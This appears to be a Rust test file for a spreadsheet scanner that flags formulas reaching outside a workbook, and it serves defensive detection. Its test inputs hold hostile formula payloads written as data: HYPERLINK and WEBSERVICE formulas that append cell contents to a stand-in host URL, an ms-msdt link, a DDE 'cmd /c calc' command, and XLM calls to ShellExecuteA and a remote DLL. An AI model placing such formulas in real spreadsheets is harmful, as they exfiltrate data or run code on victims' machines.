//! Formulas that reach outside, and formulas that do not.

use super::*;
use crate::limits::Limits;

fn told(formula: &str) -> Vec<String> {
    let each = facts(formula).into_iter().map(|fact| match fact {
        Fact::External { relation, target } => format!("{relation} {target}"),
        other => panic!("{other:?}"),
    });
    each.collect()
}

#[test]
fn addresses_with_cells_and_starts_are_told() {
    assert_eq!(
        told("HYPERLINK(\"http://a.example/?x=\"&A1&\",\"&$B$2,\"Error, click\")"),
        ["formula-sends http://a.example/?x=, (HYPERLINK)"]
    );
    assert_eq!(
        told("IF(1,webservice(CONCATENATE(\"https://a.example/\",A1)))"),
        ["formula-sends https://a.example/ (WEBSERVICE)"]
    );
    for cell in ["R1C1", "RC[-1]", "R[2]C", "Sheet1!R2C3"] {
        let formula = format!("HYPERLINK(\"http://a.example/\"&{cell})");
        assert_eq!(told(&formula), ["formula-sends http://a.example/ (HYPERLINK)"], "{cell}");
    }
    assert_eq!(told("hyperlink(\"ms-msdt:/id x\")"), ["hyperlink ms-msdt:/id x"]);
    assert_eq!(told("cmd|'/c calc'!A1"), ["dde cmd|'/c calc'!A1"]);
}

#[test]
fn addresses_that_are_asked_are_told() {
    assert_eq!(
        told("FILTERXML(_xlfn.WEBSERVICE(\"https://rates.example/jpy\"),\"//rate\")"),
        ["formula-asks https://rates.example/jpy (WEBSERVICE)"]
    );
    assert_eq!(told("IMAGE(\"http://a.example/1.png\")"), ["formula-asks http://a.example/1.png (IMAGE)"]);
}

#[test]
fn plain_addresses_and_places_are_not() {
    for plain in [
        "HYPERLINK(\"https://www.a.example/\",\"Our site\")",
        "HYPERLINK(\"#Sheet2!A1\",A1)",
        "HYPERLINK(A1)",
        "HYPERLINK(\"https://a.example/\"&\"x\")",
        "HYPERLINK(\"https://a.example/\"&ROW())",
        "HYPERLINK(\"mailto:\"&A1)",
        "WEBSERVICE(A1)",
        "GETIMAGE(\"http://a.example/1.png\")",
        "A1&\"http://a.example\"",
        "HYPERLINK(",
        "",
    ] {
        assert_eq!(told(plain), [""; 0], "{plain}");
    }
    let whole = "HYPERLINK(\"http://a.example/表?x=\"&A1,\"b\")";
    for at in (0..whole.len()).filter(|at| whole.is_char_boundary(*at)) {
        facts(whole.get(..at).unwrap());
    }
}

#[test]
fn calls_of_libraries_become_a_listing() {
    let mut outward = Outward::default();
    let place = Place { row: 1, column: 0 };
    outward.take("My sheet", place, "1+CALL(\"Shell32\",\"ShellExecuteA\",\"JJCCCJJ\")");
    outward.take("S", place, "register.id(\"\\\\a.example\\x\\y.dll\",\"f\")");
    outward.take_name("Rate", "CALL(\"price\",\"p\",\"J\")");
    for plain in ["PCALL(1)", "X.CALL(1)", "\"CALL(1)\"", "Book!CALL(1)", "CALL", ""] {
        outward.take("S", place, plain);
    }
    let mut out = Opened::default();
    outward.give(&mut out, &mut Budget::new(&Limits::default())).unwrap();
    let [child] = &out.children[..] else { panic!("{out:?}") };
    let want = "'My sheet'!A2: =1+CALL(\"Shell32\",\"ShellExecuteA\",\"JJCCCJJ\")\n\
        S!A2: =register.id(\"\\\\a.example\\x\\y.dll\",\"f\")\nRate: =CALL(\"price\",\"p\",\"J\")\n";
    assert_eq!((child.kind.unwrap().id, std::str::from_utf8(&child.bytes).unwrap()), ("xlm", want));
}

#[test]
fn facts_of_one_relation_do_not_push_out_others() {
    let mut outward = Outward::default();
    for n in 0..200 {
        outward.take("S", Place::default(), &format!("HYPERLINK(\"notes://server/{n}\")"));
    }
    outward.take("S", Place::default(), "cmd|'/c calc'!A1");
    assert_eq!(outward.facts.len(), MOST_FACTS + 1);
}
